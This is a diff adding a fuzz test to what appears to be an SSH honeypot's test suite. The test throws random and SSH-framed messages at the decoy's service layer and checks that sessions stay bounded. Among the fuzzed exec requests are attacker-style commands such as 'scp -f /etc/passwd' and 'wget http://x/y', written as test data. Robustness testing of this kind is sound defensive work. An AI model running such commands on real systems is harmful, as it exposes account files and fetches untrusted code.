@@ -53,6 +53,54 @@ private func fixture(_ name: String) throws -> [String: Any] {
         #expect(h.events.contains { $0.spec.id == "ssh.client.version" && $0.value("client_banner") == "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6" })
     }
 
+    /// The service layer (auth, channels, shell, scp, sftp) fed structured garbage after keys, as a client
+    /// with valid keys could send it (the transport's crypto is bypassed: payloads go straight in). A trap
+    /// (bounds, overflow) would crash the test process; every session must stay bounded.
+    @Test func serviceLayerSurvivesStructuredGarbage() {
+        var rng = SeededRandom(seed: "ssh-service-fuzz")
+        func bytes(_ n: Int) -> [UInt8] { (0..<n).map { _ in UInt8(truncatingIfNeeded: rng.next()) } }
+        func str(_ s: [UInt8]) -> [UInt8] { var w = SSHWriter(); w.string(s); return w.bytes }
+        func u32(_ v: UInt32) -> [UInt8] { var w = SSHWriter(); w.u32(v); return w.bytes }
+        let requests = ["pty-req", "shell", "exec", "subsystem", "env", "window-change", "x11-req", "signal"]
+        for round in 0..<300 {
+            let h = SSHHarness("debian")
+            h.send(Array("SSH-2.0-fuzz\r\n".utf8))
+            let d = h.session as! SSHDecoy
+            d.serviceAccepted = true
+            if round % 3 != 0 { d.user = "root" }
+            var seq: UInt32 = 0
+            func feed(_ p: [UInt8]) { d.payload(p, seq: seq); seq &+= 1; h.drain() }
+            feed([SSHMsg.channelOpen] + str(Array("session".utf8)) + u32(0) + u32(UInt32(rng.next() % 70_000)) + u32(32_768))
+            for _ in 0..<40 where !h.closed {
+                switch rng.next() % 8 {
+                case 0: feed([SSHMsg.userauthRequest] + str(bytes(Int(rng.next() % 20))) + str(Array("ssh-connection".utf8))
+                             + str(Array(["password", "publickey", "none", "keyboard-interactive"][Int(rng.next() % 4)].utf8)) + bytes(Int(rng.next() % 80)))
+                case 1:
+                    let req = requests[Int(rng.next() % UInt64(requests.count))]
+                    var body = bytes(Int(rng.next() % 64))
+                    if req == "exec" { body = str(Array(["scp -t /tmp/x", "scp -f /etc/passwd", "uname -a", "wget http://x/y"][Int(rng.next() % 4)].utf8)) }
+                    if req == "subsystem" { body = str(Array("sftp".utf8)) }
+                    feed([SSHMsg.channelRequest] + u32(0) + str(Array(req.utf8)) + [UInt8(rng.next() % 2)] + body)
+                case 2:
+                    // SFTP-framed or SCP-shaped or random channel data
+                    var data = bytes(Int(rng.next() % 300))
+                    if rng.next() % 2 == 0 { data = u32(UInt32(data.count + 5)) + [UInt8(rng.next() % 21), 0, 0, 0, 1] + data }
+                    if rng.next() % 4 == 0 { data = Array("C0644 \(rng.next() % 100_000) f\n".utf8) + data }
+                    feed([SSHMsg.channelData] + u32(0) + str(data))
+                case 3: feed([SSHMsg.channelWindowAdjust] + u32(0) + u32(UInt32(truncatingIfNeeded: rng.next())))
+                case 4: feed([UInt8(rng.next() % 256)] + bytes(Int(rng.next() % 100)))
+                case 5: feed([SSHMsg.channelEOF] + u32(UInt32(rng.next() % 2)))
+                case 6: feed([SSHMsg.globalRequest] + str(Array("tcpip-forward".utf8)) + [1] + bytes(8))
+                default: feed([SSHMsg.channelOpen] + str(Array(["session", "direct-tcpip", "x11"][Int(rng.next() % 3)].utf8)) + bytes(Int(rng.next() % 60)))
+                }
+            }
+            d.end(reason: "test", h.io)
+            h.drain()
+            #expect(h.events.count < 2_000)
+            #expect(h.events.allSatisfy { $0.fields.allSatisfy { $0.1.utf8.count <= 16_384 } })
+        }
+    }
+
     @Test func hostileBytesCloseWithAnAnomaly() {
         let hello = Array("SSH-2.0-x\r\n".utf8)
         let cases: [([UInt8], String)] = [
